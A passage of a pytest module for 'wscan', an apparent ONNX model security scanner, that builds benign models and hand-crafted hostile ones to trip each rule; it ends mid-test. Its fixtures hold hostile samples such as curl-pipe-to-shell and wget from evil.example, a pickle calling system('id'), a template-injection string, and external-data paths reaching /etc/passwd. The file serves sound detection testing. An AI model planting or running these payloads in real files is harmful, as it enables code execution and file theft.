@@ -1,0 +1,944 @@
+"""ONNX scanner: models written by onnx itself stay clean, one hand-crafted model per check trips exactly that
+check, the sniff takes nothing else for ONNX, external data is located but never read, and damaged models
+never crash or hang the scan."""
+
+from __future__ import annotations
+
+import io
+import os
+import re
+import time
+import zipfile
+from collections.abc import Callable
+from functools import cache
+from pathlib import Path
+from typing import Any
+
+import numpy as np
+import onnx
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from onnx import ModelProto, TensorProto, helper, numpy_helper
+
+from wscan.config import Config
+from wscan.engine import Engine
+from wscan.limits import Budget, Limits
+from wscan.model import Location, Observation, Severity
+from wscan.report import Report
+from wscan.rules import builtin_rules_dir
+from wscan.rules.loader import load_pack
+from wscan.scanners import onnx_checks
+from wscan.scanners.base import Artifact, Head, ScanContext
+from wscan.scanners.onnx_model import MODEL_FIELDS, OnnxScanner, looks_like_onnx
+
+T = TensorProto
+CORPUS = Path(__file__).resolve().parents[2] / "corpus"
+FUZZ_EXAMPLES = int(os.environ.get("WSCAN_FUZZ_EXAMPLES", "300"))  # raise it for a longer local run
+
+# --- helpers -----------------------------------------------------------------------------------------
+
+
+@cache
+def default_engine() -> Engine:
+    """The engine behind `wscan.scan`, built once: loading the rule packs dominates a one-file scan."""
+    return Engine(Config())
+
+
+def rule_ids(report: Report) -> set[str]:
+    return {f.rule_id for f in report.findings if f.severity > Severity.INFO}
+
+
+def write(folder: Path, model: ModelProto | bytes, name: str = "model.onnx") -> Path:
+    folder.mkdir(parents=True, exist_ok=True)
+    path = folder / name
+    path.write_bytes(model if isinstance(model, bytes) else model.SerializeToString())
+    return path
+
+
+def scan(path: Path, config: Config | None = None) -> Report:
+    return (Engine(config) if config else default_engine()).scan([path])
+
+
+def observe(blob: bytes, path: Path | None = None, limits: Limits | None = None) -> list[Observation]:
+    """Run the scanner alone (no engine safety net); `path` sets the folder external data resolves in."""
+    limits = limits or Limits()
+    artifact = Artifact(Location("m.onnx"), len(blob), lambda: io.BytesIO(blob), name="m.onnx", real_path=path)
+    return [o for o in OnnxScanner().scan(artifact, ScanContext(limits, Budget(limits))) if isinstance(o, Observation)]
+
+
+def value(name: str, dtype: int = T.FLOAT, shape: tuple[int, ...] = (2,)) -> onnx.ValueInfoProto:
+    return helper.make_tensor_value_info(name, dtype, list(shape))
+
+
+def opsets(*extra: tuple[str, int]) -> list[onnx.OperatorSetIdProto]:
+    return [helper.make_opsetid("", 17), *(helper.make_opsetid(d, v) for d, v in extra)]
+
+
+# --- benign models, written by onnx.helper -----------------------------------------------------------
+
+
+def mlp() -> ModelProto:
+    """A small MLP with initializers, metadata and doc strings of the ordinary kind."""
+    w1 = numpy_helper.from_array(np.linspace(-1, 1, 12, dtype=np.float32).reshape(4, 3), "W1")
+    b1 = numpy_helper.from_array(np.zeros(3, np.float32), "B1")
+    w2 = numpy_helper.from_array(np.ones((3, 2), np.float16), "W2")
+    shape = numpy_helper.from_array(np.array([1, 2], np.int64), "shape")
+    nodes = [
+        helper.make_node("MatMul", ["x", "W1"], ["h"], doc_string="first layer"),
+        helper.make_node("Add", ["h", "B1"], ["h2"]),
+        helper.make_node("Relu", ["h2"], ["h3"]),
+        helper.make_node("Cast", ["h3"], ["h4"], to=T.FLOAT16),
+        helper.make_node("MatMul", ["h4", "W2"], ["h5"]),
+        helper.make_node("Reshape", ["h5", "shape"], ["y"]),
+    ]
+    doc = "A two-layer perceptron. Call model.eval() first."
+    graph = helper.make_graph(nodes, "mlp", [value("x", shape=(1, 4))], [value("y", T.FLOAT16, (1, 2))],
+                              [w1, b1, w2, shape], doc_string=doc)  # fmt: skip
+    model = helper.make_model(graph, producer_name="wscan-tests", producer_version="1.0", opset_imports=opsets(),
+                              doc_string="Exported for tests; see https://onnx.ai")  # fmt: skip
+    helper.set_model_props(model, {"license": "apache-2.0", "author": "tests", "format": "{'a': 1}"})
+    return model
+
+
+def control_flow() -> ModelProto:
+    """If, Loop and Scan, with initializers and Constant tensors inside the bodies."""
+    then = helper.make_graph([helper.make_node("Constant", [], ["t"], value=numpy_helper.from_array(
+        np.ones(2, np.float32), "tv"))], "then", [], [value("t")])  # fmt: skip
+    other = helper.make_graph([helper.make_node("Constant", [], ["e"], value=numpy_helper.from_array(
+        np.zeros(2, np.float32), "ev"))], "else", [], [value("e")])  # fmt: skip
+    body = helper.make_graph(
+        [helper.make_node("Identity", ["cond_in"], ["cond_out"]), helper.make_node("Add", ["v_in", "one"], ["v_out"])],
+        "loop_body",
+        [value("i", T.INT64, ()), value("cond_in", T.BOOL, ()), value("v_in")],
+        [value("cond_out", T.BOOL, ()), value("v_out")],
+        [numpy_helper.from_array(np.ones(2, np.float32), "one")],
+    )
+    scan_body = helper.make_graph(
+        [helper.make_node("Add", ["s_in", "x_t"], ["s_out"]), helper.make_node("Identity", ["s_out"], ["y_t"])],
+        "scan_body", [value("s_in"), value("x_t")], [value("s_out"), value("y_t")],
+    )
+    nodes = [
+        helper.make_node("If", ["cond"], ["r"], then_branch=then, else_branch=other),
+        helper.make_node("Loop", ["M", "cond", "r"], ["v_final"], body=body),
+        helper.make_node("Scan", ["v_final", "seq"], ["s_final", "ys"], body=scan_body, num_scan_inputs=1),
+    ]
+    graph = helper.make_graph(nodes, "control_flow",
+                              [value("cond", T.BOOL, ()), value("M", T.INT64, ()), value("seq", shape=(3, 2))],
+                              [value("s_final"), value("ys", shape=(3, 2))])  # fmt: skip
+    return helper.make_model(graph, opset_imports=opsets())
+
+
+def with_functions() -> ModelProto:
+    """A model-local function in its own domain, called from the graph."""
+    function = helper.make_function(
+        "local.fns", "AddRelu", ["a", "b"], ["c"],
+        [helper.make_node("Add", ["a", "b"], ["s"]), helper.make_node("Relu", ["s"], ["c"])],
+        opset_imports=opsets(), doc_string="adds, then clamps at zero",
+    )  # fmt: skip
+    call = helper.make_node("AddRelu", ["x", "W"], ["y"], domain="local.fns")
+    weights = numpy_helper.from_array(np.ones(2, np.float32), "W")
+    graph = helper.make_graph([call], "calls", [value("x")], [value("y")], [weights])
+    return helper.make_model(graph, functions=[function], opset_imports=opsets(("local.fns", 1)))
+
+
+def sparse_and_ml() -> ModelProto:
+    """A sparse initializer and an ai.onnx.ml operator."""
+    values = numpy_helper.from_array(np.array([1.0, 2.0], np.float32), "S")
+    sparse = helper.make_sparse_tensor(values, numpy_helper.from_array(np.array([1, 5], np.int64), "S_idx"), [3, 4])
+    nodes = [helper.make_node("Normalizer", ["x"], ["y"], domain="ai.onnx.ml")]
+    outputs = [value("y", shape=(3, 4)), helper.make_sparse_tensor_value_info("S", T.FLOAT, [3, 4])]
+    graph = helper.make_graph(nodes, "sparse_ml", [value("x", shape=(3, 4))], outputs, sparse_initializer=[sparse])
+    return helper.make_model(graph, opset_imports=opsets(("ai.onnx.ml", 3)))
+
+
+def with_template_metadata() -> ModelProto:
+    """A harmless chat template in the metadata: checked, and clean."""
+    model = mlp()
+    template = "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}"
+    helper.set_model_props(model, {"chat_template": template})
+    return model
+
+
+BENIGN: dict[str, Callable[[], ModelProto]] = {
+    "mlp": mlp, "control_flow": control_flow, "functions": with_functions, "sparse_ml": sparse_and_ml,
+    "template": with_template_metadata,
+}  # fmt: skip
+
+
+def save_external(folder: Path, model: ModelProto | None = None, location: str = "weights.bin") -> Path:
+    """A model saved the way onnx saves large models: every tensor in one external file beside it."""
+    folder.mkdir(parents=True, exist_ok=True)
+    path = folder / "model.onnx"
+    onnx.save_model(model or mlp(), path, save_as_external_data=True, all_tensors_to_one_file=True,
+                    location=location, size_threshold=0)  # fmt: skip
+    return path
+
+
+def load_bare(path: Path) -> ModelProto:
+    return onnx.load_model(path, load_external_data=False)
+
+
+def check_all(model: ModelProto) -> None:
+    """Benign fixtures must be valid by onnx's own strictest check first."""
+    onnx.checker.check_model(model, full_check=True)
+
+
+@pytest.fixture(scope="module")
+def benign_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    folder = tmp_path_factory.mktemp("benign_onnx")
+    for name, build in BENIGN.items():
+        model = build()
+        check_all(model)
+        write(folder, model, f"{name}.onnx")
+    return folder
+
+
+# --- the happy path ----------------------------------------------------------------------------------
+
+
+def test_benign_models_have_no_findings(benign_dir: Path) -> None:
+    report = default_engine().scan([benign_dir])
+    assert [(f.rule_id, f.location.describe(), f.message) for f in report.findings] == []
+    assert {f.status for f in report.files} == {"scanned"}
+    assert all(f.formats == ("onnx",) for f in report.files)
+
+
+def test_model_with_external_data_has_no_findings(tmp_path: Path) -> None:
+    path = save_external(tmp_path / "ext", control_flow())
+    save_external(tmp_path / "ext2")
+    assert any(t.data_location == T.EXTERNAL for t in load_bare(path).graph.node[1].attribute[0].g.initializer)
+    for model in (path, tmp_path / "ext2" / "model.onnx"):
+        report = scan(model)
+        assert [(f.rule_id, f.message) for f in report.findings] == []
+        assert report.files[0].status == "scanned"
+
+
+def test_external_data_file_in_a_folder_scan_is_claimed_by_its_model(tmp_path: Path) -> None:
+    """weights.bin is raw floats no scanner reads; the model says it is its external data, so it is no finding."""
+    save_external(tmp_path / "ext")
+    report = default_engine().scan([tmp_path / "ext"])
+    assert report.findings == []
+    weights = next(f for f in report.files if f.path.endswith("weights.bin"))
+    assert (weights.formats, weights.status) == (("onnx-external-data",), "scanned")
+    assert report.models[0].parameters == 12 + 3 + 6 + 2
+
+
+def test_a_claimed_file_is_still_scanned(tmp_path: Path) -> None:
+    """A pickle named as external data is still a pickle: claiming only silences 'unknown format'."""
+    save_external(tmp_path / "ext")
+    (tmp_path / "ext" / "weights.bin").write_bytes(b"cposix\nsystem\n(S'id'\ntR." + bytes(200))
+    report = default_engine().scan([tmp_path / "ext"])
+    assert "WS-PKL-001" in {f.rule_id for f in report.findings}
+
+
+def test_external_data_through_a_symlink_inside_the_folder_is_fine(tmp_path: Path) -> None:
+    (tmp_path / "m" / "data").mkdir(parents=True)
+    path = save_external(tmp_path / "m", location="data/real.bin")
+    os.symlink("data/real.bin", tmp_path / "m" / "alias.bin")
+    model = load_bare(path)
+    for tensor in model.graph.initializer:
+        tensor.external_data[0].value = "alias.bin"
+    assert rule_ids(scan(write(tmp_path / "m", model))) == set()
+
+
+def test_hugging_face_cache_links_into_blobs_are_fine(tmp_path: Path) -> None:
+    """In a Hugging Face cache both the model and its data file are links from the snapshot into blobs/."""
+    saved = save_external(tmp_path / "saved")
+    repo = tmp_path / "hub" / "models--org--name"
+    (repo / "blobs").mkdir(parents=True)
+    snapshot = repo / "snapshots" / "0123abcd"
+    snapshot.mkdir(parents=True)
+    for name, blob in (("model.onnx", "aaaa"), ("weights.bin", "bbbb")):
+        (repo / "blobs" / blob).write_bytes((saved.parent / name).read_bytes())
+        os.symlink(f"../../blobs/{blob}", snapshot / name)
+    assert rule_ids(scan(snapshot / "model.onnx")) == set()
+
+
+def test_real_models_shipped_with_onnx_are_clean() -> None:
+    """Every model in onnx's backend test data: exporters' output from PyTorch, ML and string operators."""
+    models = sorted((Path(onnx.__file__).parent / "backend" / "test" / "data").rglob("*.onnx"))
+    if not models:
+        pytest.skip("this onnx build ships no backend test models")
+    report = default_engine().scan(models)
+    assert [(f.rule_id, f.location.path, f.message) for f in report.findings] == []
+    assert {f.formats for f in report.files} == {("onnx",)}
+
+
+def test_summary_fact(tmp_path: Path) -> None:
+    found = observe(mlp().SerializeToString())
+    assert [o.kind for o in found] == ["fact.onnx"]
+    assert dict(found[0].attrs) == {
+        "parameters": 12 + 3 + 6 + 2, "dtypes": "F16,F32,I64", "opset": 17, "producer": "wscan-tests 1.0",
+        "nodes": 6, "initializers": 4, "ir_version": onnx.IR_VERSION,
+    }  # fmt: skip
+    report = scan(write(tmp_path, mlp()))
+    (summary,) = report.models
+    assert (summary.parameters, summary.dtypes, summary.formats) == (23, ("F16", "F32", "I64"), ("onnx",))
+
+
+def test_fact_counts_nodes_in_every_graph_and_sparse_parameters() -> None:
+    facts = {name: next(o for o in observe(build().SerializeToString()) if o.kind == "fact.onnx").attrs
+             for name, build in BENIGN.items()}  # fmt: skip
+    assert facts["control_flow"]["nodes"] == 3 + 1 + 1 + 2 + 2
+    assert facts["functions"]["nodes"] == 1 + 2
+    assert facts["sparse_ml"]["parameters"] == 12 and facts["sparse_ml"]["dtypes"] == "F32"
+
+
+def test_every_onnx_data_type_has_a_name_and_a_size() -> None:
+    assert set(onnx_checks.DTYPES) == {v for k, v in T.DataType.items() if k != "UNDEFINED"}
+    assert onnx_checks.DTYPES[T.FLOAT] == ("F32", 32) and onnx_checks.DTYPES[T.BFLOAT16] == ("BF16", 16)
+    for code, (name, bits) in onnx_checks.DTYPES.items():
+        if bits is None:
+            continue
+        for count in (1, 5, 8):  # sub-byte types are packed: 5 four-bit values take 3 bytes
+            zeros = np.zeros(count, dtype=helper.tensor_dtype_to_np_dtype(code))
+            tensor = helper.make_tensor("t", code, [count], zeros, raw=True)
+            assert len(tensor.raw_data) == onnx_checks.expected_bytes(tensor), name
+
+
+# --- sniffing ----------------------------------------------------------------------------------------
+
+
+def test_field_table_is_modelproto() -> None:
+    wire = {9: 2, 11: 2, 3: 0, 12: 2}  # string, message, int64, bytes
+    assert {f.number: wire[f.type] for f in ModelProto.DESCRIPTOR.fields} == MODEL_FIELDS
+
+
+def _head(blob: bytes) -> Head:
+    return Head(blob[:65536], blob[-65558:], len(blob), "x")
+
+
+def test_accepts_real_models(benign_dir: Path, tmp_path: Path) -> None:
+    blobs = [p.read_bytes() for p in benign_dir.iterdir()] + [save_external(tmp_path).read_bytes()]
+    big = mlp()
+    big.graph.initializer.append(numpy_helper.from_array(np.ones(100_000, np.float32), "big"))
+    blobs.append(big.SerializeToString())
+    for blob in blobs:
+        assert OnnxScanner().accepts(_head(blob))
+        assert not OnnxScanner().accepts(Head(blob, blob, len(blob), "x", raw_data=True))
+
+
+def test_accepts_fields_in_any_order_and_overlong_tags() -> None:
+    """Protobuf readers accept both, so a model written that way is still a model."""
+    blob = mlp().SerializeToString()
+    assert blob.startswith(b"\x08")
+    ir = blob[:2]
+    assert looks_like_onnx(blob[2:] + ir, len(blob))  # ir_version last
+    assert looks_like_onnx(b"\x88\x00" + blob[1:], len(blob) + 1)  # the tag as a two-byte varint
+
+
+@pytest.mark.parametrize(
+    "blob",
+    [
+        b"", b"\x08", b"\x08\x07", b"\x08\x00:\x00", b"\x08\x63:\x00", b"\x08\x02:\x00",  # no graph, IR 0, 99, 2
+        b"\x08\x01\x12\x07\x0a\x05\x12\x03tag" + bytes(70_000),  # a TensorFlow SavedModel: schema 1, MetaGraphDef
+        b"\x80\x04\x95\x00\x00.", b"(dp0\n.", b"PK\x03\x04" + bytes(30), b"GGUF\x03\x00\x00\x00", b"\x93NUMPY",
+        b'{"a": 1}', b"# README\nhello\n", b"\x1f\x8b\x08\x00", b"BZh91AY&SY", b"7z\xbc\xaf\x27\x1c",
+        b"\x10\x00\x00\x00\x00\x00\x00\x00{}" + bytes(8),  # safetensors with a tiny header
+        numpy_helper.from_array(np.ones(3, np.float32), "t").SerializeToString(),  # a TensorProto .pb
+        b"\x08\x07\x12\x04test\x50\x01",  # an unknown field number
+        b"\x08\x07\x3d\x00\x00\x00\x00",  # the graph's field number with a fixed32 wire type
+    ],
+)
+def test_rejects_other_formats(blob: bytes) -> None:
+    assert not OnnxScanner().accepts(_head(blob))
+
+
+def test_truncated_model_with_ir_version_is_still_onnx() -> None:
+    blob = mlp().SerializeToString()
+    assert looks_like_onnx(blob[:40], 40)
+    assert looks_like_onnx(b"\x08\x07\x3a\x01", 4)  # the graph runs past the end of the file
+    assert not looks_like_onnx(blob[:1], 1)
+
+
+def test_no_corpus_file_is_taken_for_onnx() -> None:
+    files = [p for p in CORPUS.rglob("*") if p.is_file() and not p.is_symlink()]
+    assert len(files) > 100
+    taken = [p for p in files if OnnxScanner().accepts(_head(p.read_bytes())) != p.name.endswith(".onnx")]
+    assert taken == []
+
+
+def test_no_corpus_member_is_taken_for_onnx() -> None:
+    report = default_engine().scan([CORPUS])
+    assert not [f.path for f in report.files if "onnx" in f.formats]
+
+
+# --- hostile models: one per check -------------------------------------------------------------------
+
+
+def external_variant(folder: Path, edit: Callable[[TensorProto], None], model: ModelProto | None = None) -> Path:
+    """An external-data model whose first initializer's entry is edited after saving."""
+    path = save_external(folder, model)
+    bare = load_bare(path)
+    edit(bare.graph.initializer[0])
+    return write(folder, bare)
+
+
+def set_entry(key: str, text: str) -> Callable[[TensorProto], None]:
+    def edit(tensor: TensorProto) -> None:
+        for entry in tensor.external_data:
+            if entry.key == key:
+                entry.value = text
+                return
+        tensor.external_data.add(key=key, value=text)
+
+    return edit
+
+
+ESCAPES = ["/etc/passwd", "../x", "a/../../x", "C:\\x", "C:x", "\\\\server\\share\\w.bin", "//server/share/w.bin",
+           "http://x", "https://evil.example/w.bin", "file:///etc/passwd", "a\\..\\..\\x", "\\x", "w.bin\x00.txt", "",
+           "*/_ORT_MEM_ADDR_/*"]
+
+
+@pytest.mark.parametrize("location", ESCAPES)
+def test_external_data_escape(tmp_path: Path, location: str) -> None:
+    report = scan(external_variant(tmp_path, set_entry("location", location)))
+    assert rule_ids(report) == {"WS-ONNX-004"}
+    assert report.findings[0].evidence["location"] == location
+    assert report.findings[0].severity == Severity.HIGH
+
+
+def test_external_data_symlink_out_of_the_folder(tmp_path: Path) -> None:
+    secret = tmp_path / "outside" / "secret.bin"
+    secret.parent.mkdir()
+    secret.write_bytes(bytes(100))
+    path = save_external(tmp_path / "m", location="link.bin")
+    (tmp_path / "m" / "link.bin").unlink()
+    os.symlink(secret, tmp_path / "m" / "link.bin")
+    report = scan(path)
+    assert rule_ids(report) == {"WS-ONNX-004"}
+    assert report.findings[0].evidence["reason"] == "symbolic link leaves the model folder"
+
+
+def test_external_data_hard_link(tmp_path: Path) -> None:
+    path = save_external(tmp_path / "m")
+    os.link(tmp_path / "m" / "weights.bin", tmp_path / "elsewhere.bin")
+    assert rule_ids(scan(path)) == {"WS-ONNX-007"}
+
+
+@pytest.mark.parametrize("location", ["missing.bin", "sub"])
+def test_external_data_missing(tmp_path: Path, location: str) -> None:
+    (tmp_path / "sub").mkdir()
+    report = scan(external_variant(tmp_path, set_entry("location", location)))
+    assert rule_ids(report) == {"WS-ONNX-006"}
+    assert report.findings[0].severity == Severity.MEDIUM
+
+
+@pytest.mark.parametrize(("key", "number"), [("offset", "41"), ("offset", "10000"), ("length", "1000")])
+def test_external_data_out_of_bounds(tmp_path: Path, key: str, number: str) -> None:
+    report = scan(external_variant(tmp_path, set_entry(key, number)))
+    assert (tmp_path / "weights.bin").stat().st_size == 48 + 12 + 12 + 16  # W1 at 0 and 48 bytes long
+    assert rule_ids(report) == {"WS-ONNX-008"}
+
+
+def test_external_data_shorter_than_the_shape_needs(tmp_path: Path) -> None:
+    def edit(tensor: TensorProto) -> None:
+        del tensor.external_data[1:]  # location only: the loader reads what the shape needs from offset 0
+        del tensor.dims[:]
+        tensor.dims.extend([1000, 3])
+
+    assert rule_ids(scan(external_variant(tmp_path, edit))) == {"WS-ONNX-008"}
+
+
+def test_external_data_length_differs_from_the_shape(tmp_path: Path) -> None:
+    report = scan(external_variant(tmp_path, set_entry("length", "44")))
+    assert rule_ids(report) == {"WS-ONNX-010"}
+    assert (report.findings[0].evidence["expected"], report.findings[0].evidence["actual"]) == (48, 44)
+
+
+def _no_location(tensor: TensorProto) -> None:
+    kept = [(e.key, e.value) for e in tensor.external_data if e.key != "location"]
+    del tensor.external_data[:]
+    for key, text in kept:
+        tensor.external_data.add(key=key, value=text)
+
+
+def _duplicate_location(tensor: TensorProto) -> None:
+    tensor.external_data.add(key="location", value="weights.bin")
+
+
+def _not_marked(tensor: TensorProto) -> None:
+    tensor.ClearField("data_location")
+
+
+def _inline_too(tensor: TensorProto) -> None:
+    tensor.float_data.extend([0.0] * 12)
+
+
+@pytest.mark.parametrize(
+    "edit", [_no_location, set_entry("offset", "-1"), set_entry("length", "0x30"), _duplicate_location, _not_marked,
+             _inline_too],
+)  # fmt: skip
+def test_external_data_bad_entry(tmp_path: Path, edit: Callable[[TensorProto], None]) -> None:
+    assert rule_ids(scan(external_variant(tmp_path, edit))) == {"WS-ONNX-009"}
+
+
+def test_external_data_inside_a_zip_member(tmp_path: Path) -> None:
+    path = save_external(tmp_path / "m")
+    escaping = load_bare(path)
+    for tensor in escaping.graph.initializer:
+        tensor.external_data[0].value = "../../etc/passwd"
+    bundle = tmp_path / "bundle.zip"
+    with zipfile.ZipFile(bundle, "w") as zf:
+        zf.write(path, "model/model.onnx")
+        zf.write(tmp_path / "m" / "weights.bin", "model/weights.bin")
+    assert rule_ids(scan(bundle)) >= {"WS-ONNX-005"}
+    assert {f.rule_id for f in scan(bundle).findings if f.location.member == "model/model.onnx"} == {"WS-ONNX-005"}
+    with zipfile.ZipFile(tmp_path / "evil.zip", "w") as zf:
+        zf.writestr("model.onnx", escaping.SerializeToString())
+    assert rule_ids(scan(tmp_path / "evil.zip")) == {"WS-ONNX-004"}
+
+
+@pytest.mark.parametrize("where", ["if_branch", "loop_body", "function_constant", "sparse_values", "sparse_indices",
+                                   "training", "function_default", "graph_constant"])  # fmt: skip
+def test_external_data_is_found_at_any_depth(tmp_path: Path, where: str) -> None:
+    model = _nested_external(where, "/etc/passwd")
+    report = scan(write(tmp_path, model))
+    assert rule_ids(report) == {"WS-ONNX-004"}, [f.message for f in report.findings]
+
+
+def _external(tensor: TensorProto, location: str) -> TensorProto:
+    nbytes = onnx_checks.expected_bytes(tensor) or 0
+    for name in ("raw_data", "float_data", "int64_data"):
+        tensor.ClearField(name)  # type: ignore[arg-type]
+    tensor.data_location = T.EXTERNAL
+    for key, text in (("location", location), ("offset", "0"), ("length", str(nbytes))):
+        tensor.external_data.add(key=key, value=text)
+    return tensor
+
+
+def _nested_external(where: str, location: str) -> ModelProto:
+    if where in ("if_branch", "loop_body"):
+        model = control_flow()
+        node = model.graph.node[0 if where == "if_branch" else 1]
+        body = node.attribute[0].g
+        target = body.node[0].attribute[0].t if where == "if_branch" else body.initializer[0]
+        _external(target, location)
+        return model
+    if where == "function_constant":
+        model = with_functions()
+        const = helper.make_node("Constant", [], ["k"], value=numpy_helper.from_array(np.ones(2, np.float32), "kv"))
+        function = model.functions[0]
+        function.node.insert(0, const)  # its output is unused: still a valid body
+        _external(function.node[0].attribute[0].t, location)
+        return model
+    if where == "function_default":
+        model = with_functions()
+        default = _external(numpy_helper.from_array(np.ones(2, np.float32), "alpha"), location)
+        model.functions[0].attribute_proto.append(helper.make_attribute("alpha", default))
+        return model
+    if where.startswith("sparse"):
+        model = sparse_and_ml()
+        sparse = model.graph.sparse_initializer[0]
+        _external(sparse.values if where == "sparse_values" else sparse.indices, location)
+        return model
+    if where == "training":
+        model = sparse_and_ml()
+        rate = _external(numpy_helper.from_array(np.ones(2, np.float32), "lr"), location)
+        algorithm = helper.make_graph([helper.make_node("Identity", ["x"], ["y"])], "alg", [value("x")], [value("y")],
+                                      [rate])  # fmt: skip
+        model.training_info.append(helper.make_training_info(algorithm, [], None, []))
+        return model
+    model = mlp()
+    constant = numpy_helper.from_array(np.ones(2, np.float32), "c")
+    model.graph.node.append(helper.make_node("Constant", [], ["c"], value=_external(constant, location)))
+    return model
+
+
+def test_custom_domain(tmp_path: Path) -> None:
+    model = mlp()
+    model.graph.node[2].domain = "evil.custom"
+    model.graph.node[2].op_type = "LoadMyLibrary"
+    model.opset_import.append(helper.make_opsetid("evil.custom", 1))
+    report = scan(write(tmp_path, model))
+    assert rule_ids(report) == {"WS-ONNX-012"}
+    assert report.findings[0].evidence["op"] == "LoadMyLibrary" and report.findings[0].severity == Severity.MEDIUM
+
+
+def test_onnxruntime_contrib_domain_is_low(tmp_path: Path) -> None:
+    model = mlp()
+    model.graph.node[2].domain = "com.microsoft"
+    model.graph.node[2].op_type = "FastGelu"
+    model.opset_import.append(helper.make_opsetid("com.microsoft", 1))
+    report = scan(write(tmp_path, model))
+    assert rule_ids(report) == {"WS-ONNX-013"} and report.findings[0].severity == Severity.LOW
+
+
+@pytest.mark.parametrize("where", ["graph", "subgraph", "function"])
+def test_unknown_operator(tmp_path: Path, where: str) -> None:
+    if where == "graph":
+        model = mlp()
+        model.graph.node[2].op_type = "Relux"
+    elif where == "subgraph":
+        model = control_flow()
+        model.graph.node[1].attribute[0].g.node[1].op_type = "Relux"
+    else:
+        model = with_functions()
+        model.functions[0].node[1].op_type = "Relux"
+    report = scan(write(tmp_path, model))
+    assert rule_ids(report) == {"WS-ONNX-014"}, [f.message for f in report.findings]
+    assert report.findings[0].evidence["op"] == "Relux"
+
+
+def test_operator_newer_than_the_declared_opset_is_unknown(tmp_path: Path) -> None:
+    model = mlp()
+    model.graph.node.append(helper.make_node("Gelu", ["y"], ["z"]))  # Gelu is opset 20
+    assert rule_ids(scan(write(tmp_path, model))) == {"WS-ONNX-014"}
+
+
+@pytest.mark.parametrize("where", ["model", "function"])
+def test_opset_newer_than_onnx_knows(tmp_path: Path, where: str) -> None:
+    model = with_functions()
+    imports = model.opset_import if where == "model" else model.functions[0].opset_import
+    imports[0].version = onnx.defs.onnx_opset_version() + 12
+    report = scan(write(tmp_path, model))
+    assert rule_ids(report) == {"WS-ONNX-015"}
+    assert report.files[0].status == "scanned"
+
+
+def test_checker_failure(tmp_path: Path) -> None:
+    model = mlp()
+    model.graph.node[1].input[0] = "undefined"
+    report = scan(write(tmp_path, model))
+    assert rule_ids(report) == {"WS-ONNX-016"}
+    assert "topologically sorted" in report.findings[0].message
+
+
+@pytest.mark.parametrize("dims", [[-4, 3], [2**40, 2**40], [2**62, 4]])
+@pytest.mark.parametrize("external", [False, True])
+def test_bad_shape(tmp_path: Path, dims: list[int], external: bool) -> None:
+    def edit(tensor: TensorProto) -> None:
+        del tensor.dims[:]
+        tensor.dims.extend(dims)
+
+    if external:
+        path = external_variant(tmp_path, edit)
+    else:
+        model = mlp()
+        edit(model.graph.initializer[0])
+        path = write(tmp_path, model)
+    assert rule_ids(scan(path)) == {"WS-ONNX-011"}
+
+
+def test_bad_sparse_dense_shape(tmp_path: Path) -> None:
+    model = sparse_and_ml()
+    model.graph.sparse_initializer[0].dims[0] = -3
+    assert rule_ids(scan(write(tmp_path, model))) == {"WS-ONNX-011"}
+
+
+@pytest.mark.parametrize("size", [7, 47, 49, 4096])
+def test_raw_data_size_mismatch(tmp_path: Path, size: int) -> None:
+    model = mlp()
+    model.graph.initializer[0].raw_data = bytes(size)
+    report = scan(write(tmp_path, model))
+    assert rule_ids(report) == {"WS-ONNX-010"}
+    assert report.findings[0].evidence["actual"] == size
+
+
+def test_string_tensor_with_raw_data(tmp_path: Path) -> None:
+    model = mlp()
+    tensor = helper.make_tensor("words", T.STRING, [2], [b"a", b"b"])
+    tensor.ClearField("string_data")
+    tensor.raw_data = b"ab"
+    model.graph.initializer.append(tensor)
+    assert rule_ids(scan(write(tmp_path, model))) == {"WS-ONNX-010"}
+
+
+def test_typed_data_count_mismatch_is_left_to_the_checker(tmp_path: Path) -> None:
+    model = mlp()
+    tensor = TensorProto(name="f", data_type=T.FLOAT, dims=[3], float_data=[1.0, 2.0])
+    model.graph.initializer.append(tensor)
+    assert rule_ids(scan(write(tmp_path, model))) == {"WS-ONNX-016"}
+
+
+@pytest.mark.parametrize(
+    ("field", "text"),
+    [
+        ("metadata", "import os; os.system('curl http://x | sh')"),
+        ("metadata", "__import__('subprocess').run(['id'])"),
+        ("metadata", "exec(base64.b64decode(blob))"),
+        ("model_doc", "run: wget http://evil.example/x -O /tmp/x"),
+        ("node_doc", "/bin/sh -c id"),
+        ("function_doc", "eval(input())"),
+        ("graph_metadata", "powershell -enc AAAA"),
+    ],
+)
+def test_code_in_metadata(tmp_path: Path, field: str, text: str) -> None:
+    model = with_functions()
+    if field == "metadata":
+        helper.set_model_props(model, {"postprocess": text})
+    elif field == "model_doc":
+        model.doc_string = text
+    elif field == "node_doc":
+        model.graph.node[0].doc_string = text
+    elif field == "function_doc":
+        model.functions[0].doc_string = text
+    else:
+        model.graph.metadata_props.add(key="note", value=text)
+    report = scan(write(tmp_path, model))
+    assert rule_ids(report) == {"WS-ONNX-017"}
+
+
+def test_oversized_metadata(tmp_path: Path) -> None:
+    model = mlp()
+    helper.set_model_props(model, {"blob": "A" * (onnx_checks.MAX_TEXT_CHARS + 1)})
+    report = scan(write(tmp_path, model))
+    assert rule_ids(report) == {"WS-ONNX-018"}
+    assert report.findings[0].evidence["field"] == "model.metadata_props[blob]"
+
+
+def test_template_in_metadata_goes_to_the_template_checker(tmp_path: Path) -> None:
+    model = mlp()
+    helper.set_model_props(model, {"chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"})
+    report = scan(write(tmp_path, model))
+    assert rule_ids(report) == {"WS-TPL-001"}
+    assert {f.evidence["field"] for f in report.findings} == {"model.metadata_props[chat_template]"}
+    assert report.findings[0].severity == Severity.CRITICAL
+
+
+def test_template_in_a_doc_string(tmp_path: Path) -> None:
+    model = mlp()
+    model.graph.node[0].doc_string = "{% include '/etc/passwd' %}"
+    assert rule_ids(scan(write(tmp_path, model))) == {"WS-TPL-006"}
+
+
+@pytest.mark.parametrize("doc", ["{{" * 400_000, "{%" * 400_000, "import" + " " * 900_000, "{" * 900_000])
+def test_long_hostile_text_is_searched_in_linear_time(tmp_path: Path, doc: str) -> None:
+    model = mlp()
+    model.doc_string = doc
+    started = time.monotonic()
+    found = observe(model.SerializeToString())
+    assert time.monotonic() - started < 5
+    assert [o.kind for o in found] == ["fact.onnx"]
+
+
+def test_invalid_utf8_in_strings_is_read_not_crashed_on(tmp_path: Path) -> None:
+    blob = mlp().SerializeToString().replace(b"wscan-tests", b"wscan\xff\xfetest")
